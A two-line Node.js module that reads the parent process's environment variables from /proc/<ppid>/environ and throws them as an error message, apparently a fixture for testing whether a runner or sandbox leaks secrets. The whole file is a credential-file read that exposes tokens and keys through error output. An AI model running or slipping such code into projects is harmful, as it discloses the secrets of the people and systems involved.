import { readFileSync } from 'node:fs';

throw new Error(readFileSync(`/proc/${process.ppid}/environ`, 'latin1'));
